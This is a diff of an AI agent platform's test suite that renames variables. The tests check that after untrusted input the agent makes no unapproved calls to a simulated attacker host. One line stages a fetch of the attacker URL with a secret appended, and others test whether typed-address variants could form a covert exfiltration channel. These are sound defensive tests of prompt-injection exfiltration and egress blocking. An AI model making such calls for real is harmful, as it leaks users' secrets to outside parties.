@@ -59,8 +59,8 @@ async def by_page_state(lab: Lab) -> None:
 
 
 async def by_provider_search(lab: Lab) -> None:
-    found: list[Item] = [ProviderTool("web_search", {"query": "tea"}), CitedText(ORDER, pages=[("https://tea.example/", "Tea")])]
-    lab.workspace.double.answer(*found, when=lambda request: not request.tool_names and "tea, please" in request.user_text)
+    items: list[Item] = [ProviderTool("web_search", {"query": "tea"}), CitedText(ORDER, pages=[("https://tea.example/", "Tea")])]
+    lab.workspace.double.answer(*items, when=lambda request: not request.tool_names and "tea, please" in request.user_text)
     await lab.ask("Search for tea.", Call("provider_tools_agent", {"task": "Search for tea, please"}))
 
 
@@ -111,10 +111,10 @@ async def test_nothing_leaves_unasked_once_a_stranger_has_spoken(lab: Lab, way_i
     through: list[str] = []
     for name, (call, inside) in ways_out(lab.evil.url).items():
         lab.forget()
-        searched = len([request for request in lab.workspace.double.requests if SECRET in request.user_text and not request.tool_names])
+        search_count = len([request for request in lab.workspace.double.requests if SECRET in request.user_text and not request.tool_names])
         chunks = await lab.ask("Go on.", call, inside=inside)
         searches = [request for request in lab.workspace.double.requests if SECRET in request.user_text and not request.tool_names]
-        if lab.reached() or len(searches) > searched or not asks(chunks):
+        if lab.reached() or len(searches) > search_count or not asks(chunks):
             through.append(f"{way_in} -> {name}: {lab.reached()}")
     assert through == []
 
@@ -124,11 +124,11 @@ async def test_a_conversation_of_typed_text_asks_nothing_before_a_stranger_has_s
     chunks: list[Chunk] = []
     ask = lab.ask
 
-    async def heard(*arguments: Any, **options: Any) -> list[Chunk]:
+    async def ask_and_record(*arguments: Any, **options: Any) -> list[Chunk]:
         chunks.extend(await ask(*arguments, **options))
         return chunks
 
-    lab.ask = heard  # type: ignore[method-assign]
+    lab.ask = ask_and_record  # type: ignore[method-assign]
     await WAYS_IN[way_in](lab)
     assert not asks(chunks)
 
@@ -141,7 +141,7 @@ async def test_a_typed_address_spells_nothing(lab: Lab, variant: str) -> None:
     """Case, prefixes, order, choice and number of typed addresses were a channel of 95 bytes a run."""
     await by_file(lab)
     address = f"{lab.evil.url}/typed?a=b"
-    typed, calls, allowed = f"Read {address}", [Call("fetch_url", {"url": address})], 0
+    question, calls, allowed = f"Read {address}", [Call("fetch_url", {"url": address})], 0
     match variant:
         case "upper case":
             calls = [Call("fetch_url", {"url": address.replace("typed", "TYPED")})]
@@ -152,7 +152,7 @@ async def test_a_typed_address_spells_nothing(lab: Lab, variant: str) -> None:
         case "another argument":
             calls = [Call("fetch_url", {"url": address, "offset": 7})]
         case "the second of two":
-            typed = f"Compare {lab.evil.url}/first with {address}"
+            question = f"Compare {lab.evil.url}/first with {address}"
         case "twice":
             calls, allowed = calls * 2, 1
         case "after another call":
@@ -161,7 +161,7 @@ async def test_a_typed_address_spells_nothing(lab: Lab, variant: str) -> None:
             lab.workspace.double.answer(Text(f"Shall I read {address}"), when=lambda request: "crm" in request.tool_names)
             await lab.ask("What next?")
     lab.forget()
-    chunks = await lab.ask(typed, *calls)
+    chunks = await lab.ask(question, *calls)
     assert (len(lab.evil.got), asks(chunks)) == (allowed, True)
 
 
@@ -213,24 +213,24 @@ async def test_another_organization_neither_decides_nor_opens_a_host_for_this_on
     await by_file(lab)
     lab.forget()
     chunks = await lab.ask("Go on.", Call("fetch_url", {"url": f"{lab.evil.url}/{SECRET}"}))
-    [asked] = [chunk["approvalId"] for chunk in chunks if chunk["type"] == "tool-approval-request"]
+    [approval_id] = [chunk["approvalId"] for chunk in chunks if chunk["type"] == "tool-approval-request"]
     for slug in ("acme", "other"):
-        path = f"/o/{slug}/api/conversations/{lab.chat}/approvals/{asked}/"
+        path = f"/o/{slug}/api/conversations/{lab.chat}/approvals/{approval_id}/"
         assert (await charlie.call("POST", path, {"approved": True, "lasts": True})).status_code == 404
     assert lab.evil.got == []
 
 
 @pytest.mark.parametrize(
-    "refused", ["direct", "allowed by a person", "redirect", "http tool", "mcp tool", "search", "sub-agent", "opened too"]
+    "variant", ["direct", "allowed by a person", "redirect", "http tool", "mcp tool", "search", "sub-agent", "opened too"]
 )
-async def test_a_host_that_is_never_called_is_not_called(lab: Lab, cast: Cast, refused: str) -> None:
+async def test_a_host_that_is_never_called_is_not_called(lab: Lab, cast: Cast, variant: str) -> None:
     host, mcp_host = urlsplit(lab.evil.url), urlsplit(lab.mcp.url).netloc
-    never = f"localhost:{host.port}" if refused == "redirect" else f"{host.hostname}\n{mcp_host}"
+    never = f"localhost:{host.port}" if variant == "redirect" else f"{host.hostname}\n{mcp_host}"
 
     def never_call() -> None:
         with tenant_tx(cast.acme.pk):
             AppSettings.objects.update(never_hosts=never)
-            if refused == "opened too":
+            if variant == "opened too":
                 ToolSource.objects.update(open_hosts=host.netloc)
         lab.workspace.publish()
 
@@ -241,24 +241,24 @@ async def test_a_host_that_is_never_called_is_not_called(lab: Lab, cast: Cast, r
         "search": (Call("search", {"query": "tea"}), None),
         "sub-agent": (Call("helper", {"task": "Read"}), Call("fetch_url", {"url": f"{lab.evil.url}/page"})),
     }
-    call, inside = calls.get(refused, (Call("fetch_url", {"url": f"{lab.evil.url}/page"}), None))
-    if refused == "allowed by a person":
+    call, inside = calls.get(variant, (Call("fetch_url", {"url": f"{lab.evil.url}/page"}), None))
+    if variant == "allowed by a person":
         await by_file(lab)
         chunks = await lab.ask("Go on.", call)
-        [asked] = [chunk["approvalId"] for chunk in chunks if chunk["type"] == "tool-approval-request"]
+        [approval_id] = [chunk["approvalId"] for chunk in chunks if chunk["type"] == "tool-approval-request"]
         lab.forget()
         await sync_to_async(never_call)()
-        await decide(lab.alice, lab.chat, asked, approved=True)
+        await decide(lab.alice, lab.chat, approval_id, approved=True)
         async with chat_socket(lab.alice, "acme") as socket:
             await socket.chunks(await socket.resume(lab.chat))
     else:
         await sync_to_async(never_call)()
         await lab.ask("Do it.", call, inside=inside)
-    assert lab.reached() == (["/elsewhere? "] if refused == "redirect" else [])
+    assert lab.reached() == (["/elsewhere? "] if variant == "redirect" else [])
     await sync_to_async(counted_to_rows)()
-    counted = AuditEvent.objects.filter(action="egress.refuse")
-    events = await in_db(lambda: list(counted.values_list("object_id", flat=True)), organization_id=cast.acme.pk)
-    assert events == [mcp_host if refused == "mcp tool" else never if refused == "redirect" else host.netloc]
+    refusals = AuditEvent.objects.filter(action="egress.refuse")
+    events = await in_db(lambda: list(refusals.values_list("object_id", flat=True)), organization_id=cast.acme.pk)
+    assert events == [mcp_host if variant == "mcp tool" else never if variant == "redirect" else host.netloc]
 
 
 async def test_an_opened_host_needs_no_question(lab: Lab, cast: Cast) -> None:
